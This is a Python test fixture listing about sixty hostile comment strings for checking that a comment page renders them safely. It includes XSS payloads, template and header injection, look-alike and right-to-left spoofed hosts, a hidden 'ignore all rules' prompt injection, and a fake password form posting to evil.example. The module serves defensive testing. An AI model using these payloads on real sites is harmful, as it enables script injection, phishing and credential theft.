"""What strangers write to break a page: at least sixty ways, for every test that shows comments."""

from __future__ import annotations

from service.domain.comment import Author, Comment, Post, Sender
from tests.factories import make_comment

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "javascript link": "[here](javascript:alert(1)) javascript:alert(1)",
    "data link": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "closing tags": "</bdi></mark></div></article></main></body></html><script>alert(1)</script>",
    "attribute break": '" autofocus onfocus="alert(1)" x="',
    "single quotes": "' onmouseover='alert(1)' '",
    "comment": "<!--<script>--!><script>alert(1)</script>",
    "template": "{{7*7}} {% include '/etc/passwd' %} {{config.SECRET_KEY}} {#",
    "format": "{0} %s %(x)s {opened.id} %n%n%n",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name=password><button>Approve',
    "data-part": '<div data-part="opened" class="row" data-id="x">forged</div>',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#x6a;avascript:alert(1) &amp;amp;",
    "null": "a\x00b <scr\x00ipt>alert(1)</scr\x00ipt>",
    "bidi": "invoice\u202egpj.exe \u2066hidden\u2069 \u200fback",
    "line separators": "a\u2028b\u2029c\x85d",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "textarea": "</textarea></title></style></noscript><script>alert(1)</script>",
    "long word": "w" * 20_000,
    "combining flood": "Z" + "\u0301" * 10_000,
    "spaced flood": "a\u200b" * 8_000,
    "line flood": "\n" * 20_000 + "end",
    "newlines in a name": "Ola\r\nSet-Cookie: x=1",
    "script in a link": 'https://evil.example/<script>alert(1)</script>?q="><img src=x>',
    "javascript author": "javascript:alert(document.domain)//https://blog.example/",
    "javascript with a tab": "java\tscript:alert(1)",
    "file link": "file:///etc/passwd",
    "srcset": "<img srcset='//evil.example/a.png 2x' src=//evil.example/b.png>",
    "template element": "<template shadowrootmode=open><script>alert(1)</script></template>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "ping": "<a href=/ ping=https://evil.example/>x</a>",
    "csv formula": '=HYPERLINK("https://evil.example","total")',
    "header": "x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "json break": '"}]};alert(1);//',
    "gettext": "%(name)s %(num)s %s %d %%",
    "homoglyph host": "https://раураl.example/login and https://xn--pypal-4ve.example/",
    "dotless host": "https://ⅼogin.ｅｘａｍｐｌｅ。com/",
    "long host": "https://" + "a." * 900 + "example/",
    "rtl host": "https://\u202eelpmaxe.live\u202c/path",
    "rtl paragraph": "\u0627\u0644\u0633\u0644\u0627\u0645 <b>\u05e9\u05dc\u05d5\u05dd</b> \u202d1",
    "unbalanced isolates": "\u2067" * 500 + "text",
    "stacked marks": "H\u0335\u0321\u0336\u0357" * 4_000,
    "joined faces": "\U0001f468\u200d" * 4_000 + "\U0001f466",
    "no spaces in chinese": "\u4e2d" * 8_000,
    "tag characters": "hi" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules"),
    "not a character": "\ufffe\uffff\U0010ffff",
    "control characters": "".join(map(chr, range(1, 32)))
    + "\x7f"
    + "".join(map(chr, range(0x80, 0xA0))),
    "broken surrogates": "a\ud83d b\ude00 \udfff\ud800 <b>",
    "tabs": "\t" * 8_000 + "x",
    "ansi": "\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "coded host": "https://xn--80ak6aa92e.com/ https://xn--<script>.com https://xn--a.xn--b.com",
    "host before host": "https://paypal.com@evil.example/ https://evil.example\\@paypal.com/",
    "anchor that poses": "[https://paypal.com](https://evil.example/<script>alert(1)</script>)",
    "markup link": '[url=javascript:alert(1)]x[/url] [url="//evil.example/"onclick=x]y[/url]',
    "many links": " ".join(f"https://a{n}.evil.example/" for n in range(400)),
    "longest host": "https://" + "a" * 63 + "." + ("b" * 63 + ".") * 2 + "example.com/",
    "look-alike flood": "a\u0430" * 6_000,
    "row text": '<li class="row is-decided" data-part="row-x"><a href="/review">x</a></li>',
}


def hostile_comment(text: str, **changes: object) -> Comment:
    """Return a comment that says this in every field there is, as far as the field is long."""
    return make_comment(
        text,
        author=Author(name=text[:300], url=text[:2_048], account_id=text[:100]),
        post=Post(title=text[:500], url=text[:2_048], excerpt=text[:4_000]),
        sender=Sender(email_domain=text[:200]),
        language=text[:20],
        user_agent=text[:300],
        reply_to=text[:200],
        **changes,
    )
